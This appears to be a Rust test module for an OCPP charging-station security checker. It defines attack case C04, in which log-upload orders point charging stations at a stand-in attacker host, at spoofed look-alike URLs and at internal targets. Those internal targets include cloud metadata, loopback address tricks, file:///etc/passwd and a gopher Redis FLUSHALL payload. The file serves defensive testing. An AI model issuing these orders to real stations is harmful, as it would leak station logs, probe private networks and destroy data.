//! C04: logs carried away, and the station's network looked at from inside.

use chargewarden_ocpp::Version;
use serde_json::json;

use super::firmware::vendor_setting;
use crate::attack::{ALL, Attack, Entry, Kind, Order, Spot, Twin, order, vendor_data};

const V16: &[Version] = &[Version::V16];

const ELSEWHERE: &[&str] = &[
    "ftp://drop.attacker.example/in",
    "https://drop.attacker.example/in",
    "sftp://drop.attacker.example/in",
    "https://logs.example.com.attacker.example/in",
    "https://logs.example.com@attacker.example/in",
    "https://attacker.example/logs.example.com/",
    "https://attacker.example\\@logs.example.com/",
    "https://logs-example.com/in",
    "https://logs.example.com%2fin@attacker.example/",
    "https://user:secret@logs.example.com/in",
    "http://logs.example.com/in",
    "ftp://logs.example.com/in",
];

const INSIDE: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/",
    "https://169.254.169.254/latest/meta-data/",
    "http://10.0.0.5:8080/",
    "https://192.168.1.1/cgi-bin/admin",
    "https://172.16.0.1/",
    "https://127.0.0.1:8443/",
    "https://localhost/",
    "https://127.1/",
    "https://2130706433/",
    "https://0x7f.1/",
    "https://0/",
    "https://[::1]/",
    "https://[fe80::1]/",
    "https://[::ffff:10.0.0.5]/",
    "https://[fd00::1]/",
    "https://station.local/",
    "https://router/",
    "file:///etc/passwd",
    "gopher://10.0.0.5:6379/_FLUSHALL",
];

/// C04.
pub(super) fn elsewhere() -> Entry {
    Entry {
        id: "C04",
        name: "logs uploaded to where somebody else reads them",
        versions: ALL,
        kind: Kind::Hard,
        attacks: vec![
            Attack::orders("to a foreign host", ALL, |at| every_way(at, ELSEWHERE)),
            Attack::orders("into the network of the site", ALL, |at| every_way(at, INSIDE)),
            Attack::orders("a vendor's setting for logs", ALL, |at: &Spot| {
                [
                    "LogServerUrl",
                    "SyslogServer",
                    "DiagnosticsUploadHost",
                    "RemoteLog.Address",
                    "crash_report_url",
                ]
                .iter()
                .map(|key| vendor_setting(at, key, "https://drop.attacker.example/in"))
                .collect()
            }),
            Attack::orders("inside vendor data", ALL, |at: &Spot| {
                let diagnostics = json!({ "location": "https://drop.attacker.example/in" });
                let log = json!({ "logType": "SecurityLog", "requestId": at.number,
                    "log": { "remoteLocation": "https://drop.attacker.example/in" } });
                vec![
                    vendor_data("com.example.listed", "GetDiagnostics", &diagnostics.to_string()),
                    vendor_data("com.example.listed", "GetLog", &log.to_string()),
                    vendor_data("com.example.listed", "GETLOG", &log.to_string()),
                    vendor_data("Acme", "uploadLogs", "https://drop.attacker.example/in"),
                ]
            }),
            Attack::order("the right place, from every station", ALL, |at: &Spot| {
                at.log("SecurityLog", "https://logs.example.com/in")
            })
            .judged(Kind::Cumulative),
        ],
        twins: vec![
            Twin::order("a log for a support case", ALL, |at| {
                at.log("DiagnosticsLog", "https://logs.example.com/cases/8812/")
            }),
            Twin::order("diagnostics for a support case", V16, |at: &Spot| {
                order(
                    "GetDiagnostics",
                    json!({ "location": "sftp://logs.example.com/cases/8812", "startTime": at.time(-86_400),
                        "stopTime": at.now, "retries": 2, "retryInterval": 60 }),
                )
            }),
        ],
    }
}

fn every_way(at: &Spot, locations: &[&str]) -> Vec<Order> {
    let mut orders = Vec::new();
    for location in locations {
        orders.push(at.log("DiagnosticsLog", location));
        orders.push(at.log("SecurityLog", location));
        if at.version == Version::V16 {
            orders.push(order("GetDiagnostics", json!({ "location": location })));
            orders.push(order(
                "GetDiagnostics",
                json!({ "location": location, "startTime": "2020-01-01T00:00:00Z", "retries": 9 }),
            ));
        } else {
            orders.push(order(
                "GetLog",
                json!({ "logType": "SecurityLog", "requestId": 1, "retries": 9, "retryInterval": 1,
                    "log": { "remoteLocation": location, "oldestTimestamp": "2020-01-01T00:00:00Z" } }),
            ));
        }
    }
    orders
}
